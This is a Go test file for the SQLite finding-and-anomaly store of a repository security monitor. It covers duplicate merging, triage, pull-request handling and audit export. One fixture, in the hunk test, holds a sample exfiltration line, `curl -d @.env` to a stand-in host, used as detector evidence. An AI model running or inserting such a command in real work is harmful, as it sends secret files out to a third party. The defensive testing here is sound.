package sqlite_test

import (
	"context"
	"errors"
	"fmt"
	"testing"
	"time"

	"github.com/repoguard/repoguard/guard"
	"github.com/repoguard/repoguard/guard/sqlite"
)

// queueClock is the settable clock of a queue test database.
type queueClock struct{ now time.Time }

func (c *queueClock) advance(d time.Duration) { c.now = c.now.Add(d) }

// openQueue returns an open database on a new file whose clock starts
// at epoch and moves only when the test advances it.
func openQueue(t testing.TB) (*sqlite.DB, *queueClock) {
	t.Helper()
	clock := &queueClock{now: epoch}
	db := newDB(t)
	db.Now = func() time.Time { return clock.now }
	if err := db.Open(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db, clock
}

func finding(detector string, sev guard.Severity, path, msg string) guard.Finding {
	return guard.Finding{Detector: detector, Severity: sev, Score: float64(sev) / 10, Path: path, Message: msg}
}

// pushRecord is a push of one commit by alice to acme/vault.
func pushRecord(commit string, fs ...guard.Finding) guard.FindingRecord {
	return guard.FindingRecord{Repo: "acme/vault", Commit: commit, Author: "alice", AuthorName: "Alice",
		AuthorEmail: "alice@example.com", URL: "https://github.com/acme/vault/commit/" + commit,
		Findings: fs, Queue: guard.Low, Actor: "repoguard"}
}

func record(t testing.TB, db *sqlite.DB, rec guard.FindingRecord) []guard.Anomaly {
	t.Helper()
	created, err := db.RecordFindings(context.Background(), rec)
	if err != nil {
		t.Fatal(err)
	}
	return created
}

// allAnomalies returns every anomaly, suppressed ones too, by id.
func allAnomalies(t testing.TB, db *sqlite.DB) []guard.Anomaly {
	t.Helper()
	var out []guard.Anomaly
	if err := db.ExportAnomalies(context.Background(), time.Time{}, func(a guard.Anomaly) error {
		out = append(out, a)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return out
}

// auditActions returns "action subject" of every audit entry, in order.
func auditActions(t testing.TB, db *sqlite.DB) []string {
	t.Helper()
	es, err := db.AuditEntries(context.Background(), 1, 1000)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range es {
		out = append(out, e.Action+" "+e.Subject)
	}
	return out
}

func TestRecordFindingsMergesDuplicates(t *testing.T) {
	ctx := context.Background()
	db, clock := openQueue(t)
	f := finding("new-path", guard.Medium, "deploy/run.sh", "First change to deploy/ in 400 commits")
	created := record(t, db, pushRecord("c1", f, finding("late-hour", guard.Info, "", "below the queue")))
	if len(created) != 1 {
		t.Fatalf("created %d anomalies, want 1 (the info finding is below the queue)", len(created))
	}
	a := created[0]
	if a.Status != guard.StatusOpen || a.Seen != 1 || a.Severity != guard.Medium || a.Author != "alice" ||
		a.Commit != "c1" || a.Key != guard.AnomalyKey("acme/vault", "new-path", "c1", 0, f.Path, f.Message) {
		t.Fatalf("created %+v", a)
	}

	// The same finding, stronger, twice in one report and once more
	// later: one anomaly, seen 3 times, raised to the strongest.
	clock.advance(time.Hour)
	strong := f
	strong.Severity, strong.Score, strong.Evidence = guard.High, 0.9, []string{"400 commits"}
	if created := record(t, db, pushRecord("c1", strong, f)); len(created) != 0 {
		t.Fatalf("a duplicate created %v", created)
	}
	got, err := db.Anomaly(ctx, a.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.Seen != 3 || got.Severity != guard.High || got.Score != 0.9 || !got.UpdatedAt.Equal(epoch.Add(time.Hour)) ||
		!got.CreatedAt.Equal(epoch) || len(got.Evidence) != 1 {
		t.Fatalf("merged %+v", got)
	}

	// A closed anomaly stays closed when seen again.
	if _, err := db.Triage(ctx, a.ID, "sec", guard.TriageAction{Kind: "dismiss", Reason: "expected"}); err != nil {
		t.Fatal(err)
	}
	record(t, db, pushRecord("c1", f))
	if got, _ := db.Anomaly(ctx, a.ID); got.Status != guard.StatusDismissed || got.Seen != 4 || got.Severity != guard.High {
		t.Fatalf("after dismissal %+v", got)
	}
	want := []string{"anomaly.created anomaly/1", "anomaly.dismissed anomaly/1"}
	if fmt.Sprint(auditActions(t, db)) != fmt.Sprint(want) {
		t.Fatalf("audit %v, want %v", auditActions(t, db), want)
	}
	if n := len(allAnomalies(t, db)); n != 1 {
		t.Fatalf("%d anomalies, want 1", n)
	}
}

func TestReopenedPullRequestReusesAnomalies(t *testing.T) {
	ctx := context.Background()
	db, _ := openQueue(t)
	f := finding("key-material", guard.Critical, "keys/prod.pem", "PEM private key")
	pr := func(number int, head string) guard.FindingRecord {
		r := pushRecord(head, f)
		r.PullRequest, r.URL = number, fmt.Sprintf("https://github.com/acme/vault/pull/%d", number)
		return r
	}
	first := record(t, db, pr(7, "head1"))
	if len(first) != 1 {
		t.Fatalf("created %d", len(first))
	}
	// Closed, reopened and pushed again: a new head, the same anomaly.
	if again := record(t, db, pr(7, "head2")); len(again) != 0 {
		t.Fatalf("the reopened pull request created %v", again)
	}
	got, err := db.AnomaliesForPR(ctx, "acme/vault", 7)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].ID != first[0].ID || got[0].Seen != 2 || got[0].Commit != "head2" || got[0].PullRequest != 7 {
		t.Fatalf("anomalies of #7: %+v", got)
	}
	if other := record(t, db, pr(8, "head2")); len(other) != 1 || other[0].ID == first[0].ID {
		t.Fatalf("another pull request: %+v", other)
	}
	if got, _ := db.AnomaliesForPR(ctx, "acme/vault", 9); len(got) != 0 {
		t.Fatalf("anomalies of #9: %+v", got)
	}
}

func TestAnomalyNotFound(t *testing.T) {
	ctx := context.Background()
	db, _ := openQueue(t)
	if _, err := db.Anomaly(ctx, 42); !errors.Is(err, guard.ErrNotFound) {
		t.Fatalf("Anomaly: %v", err)
	}
	if _, err := db.Comments(ctx, 42); !errors.Is(err, guard.ErrNotFound) {
		t.Fatalf("Comments: %v", err)
	}
	if _, err := db.History(ctx, 42); !errors.Is(err, guard.ErrNotFound) {
		t.Fatalf("History: %v", err)
	}
	if _, err := db.RecordFindings(ctx, guard.FindingRecord{}); !errors.Is(err, guard.ErrInvalid) {
		t.Fatalf("RecordFindings without a repository: %v", err)
	}
}

func TestAuthorAnomaliesAndExport(t *testing.T) {
	ctx := context.Background()
	db, clock := openQueue(t)
	for i := range 5 {
		clock.advance(time.Hour)
		rec := pushRecord(fmt.Sprintf("c%d", i), finding("late-hour", guard.Medium, "", fmt.Sprintf("commit at 0%d:00", i)))
		if i%2 == 1 {
			rec.Author = "bob"
		}
		record(t, db, rec)
	}
	got, err := db.AuthorAnomalies(ctx, "alice", 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].Commit != "c4" || got[1].Commit != "c2" {
		t.Fatalf("alice's latest: %+v", got)
	}
	var ids []int64
	stop := errors.New("stop")
	err = db.ExportAnomalies(ctx, epoch.Add(3*time.Hour), func(a guard.Anomaly) error {
		ids = append(ids, a.ID)
		if len(ids) == 2 {
			return stop
		}
		return nil
	})
	if !errors.Is(err, stop) || fmt.Sprint(ids) != "[3 4]" {
		t.Fatalf("export since 3h: %v %v", ids, err)
	}
	var seqs []int64
	if err := db.ExportAudit(ctx, 2, func(e guard.AuditEntry) error {
		seqs = append(seqs, e.Seq)
		return nil
	}); err != nil || fmt.Sprint(seqs) != "[2 3 4 5]" {
		t.Fatalf("export audit from 2: %v %v", seqs, err)
	}
}

func TestRecordFindingsKeepsHunk(t *testing.T) {
	ctx := context.Background()
	db, _ := openQueue(t)
	f := finding("network-endpoint", guard.Medium, "deploy/run.sh", "Sends data to a new host")
	f.Line = 11
	f.Hunk = []guard.Line{{Number: 10, Text: "set -e"}, {Number: 11, Text: `curl -d @.env "https://x.example/<a>"`}}
	created := record(t, db, pushRecord("c1", f, finding("sensitive-path", guard.Medium, "deploy/x", "no hunk")))
	if len(created) != 2 {
		t.Fatalf("created %d anomalies, want 2", len(created))
	}
	if fmt.Sprint(created[0].Hunk) != fmt.Sprint(f.Hunk) || created[1].Hunk != nil {
		t.Fatalf("created hunks %v and %v, want %v and none", created[0].Hunk, created[1].Hunk, f.Hunk)
	}
	got, err := db.Anomaly(ctx, created[0].ID)
	if err != nil || fmt.Sprint(got.Hunk) != fmt.Sprint(f.Hunk) {
		t.Fatalf("Anomaly hunk = %v, %v; want %v", got.Hunk, err, f.Hunk)
	}

	// Seen again at another line: the hunk follows the latest finding.
	moved := f
	moved.Line, moved.Hunk = 21, []guard.Line{{Number: 21, Text: "curl -d @.env https://x.example"}}
	record(t, db, pushRecord("c1", moved))
	if got, _ := db.Anomaly(ctx, created[0].ID); got.Line != 21 || fmt.Sprint(got.Hunk) != fmt.Sprint(moved.Hunk) {
		t.Fatalf("merged line %d hunk %v, want 21 %v", got.Line, got.Hunk, moved.Hunk)
	}
}

// TestReleaseDoesNotCarryOverToOtherContent: a resolved pull request
// anomaly stays resolved when the same finding comes back on a new head
// with the same evidence (the same key), and is reopened when the
// evidence differs (another key at the same place).
func TestReleaseDoesNotCarryOverToOtherContent(t *testing.T) {
	ctx := context.Background()
	db, _ := openQueue(t)
	rec := func(head, fingerprint string) guard.FindingRecord {
		f := finding("key-material", guard.Critical, "deploy/k.pem", "Adds an unencrypted RSA private key")
		f.Evidence = []string{"key: -----…[redacted 1700 chars, sha256:" + fingerprint + "]"}
		r := pushRecord(head, f)
		r.PullRequest = 9
		return r
	}
	first := record(t, db, rec("head1", "aaaaaaaaaaaa"))
	for _, who := range []string{"sec", "sec2"} { // it blocks: two triagers release it
		if _, err := db.Triage(ctx, first[0].ID, who, guard.TriageAction{Kind: "resolve"}); err != nil {
			t.Fatal(err)
		}
	}
	if again := record(t, db, rec("head2", "aaaaaaaaaaaa")); len(again) != 0 {
		t.Fatalf("the same key on a new head was queued again: %+v", again)
	}
	if a, _ := db.Anomaly(ctx, first[0].ID); a.Status != guard.StatusResolved {
		t.Fatalf("same evidence: status %s, want resolved", a.Status)
	}
	reopened := record(t, db, rec("head3", "bbbbbbbbbbbb"))
	if len(reopened) != 1 || reopened[0].ID != first[0].ID || reopened[0].Status != guard.StatusOpen {
		t.Fatalf("another key at the same place: %+v, want the anomaly reopened", reopened)
	}
	hist, err := db.History(ctx, first[0].ID)
	if err != nil || hist[len(hist)-1].Action != "anomaly.reopened" {
		t.Errorf("history %+v, %v: want an anomaly.reopened entry last", hist, err)
	}
}
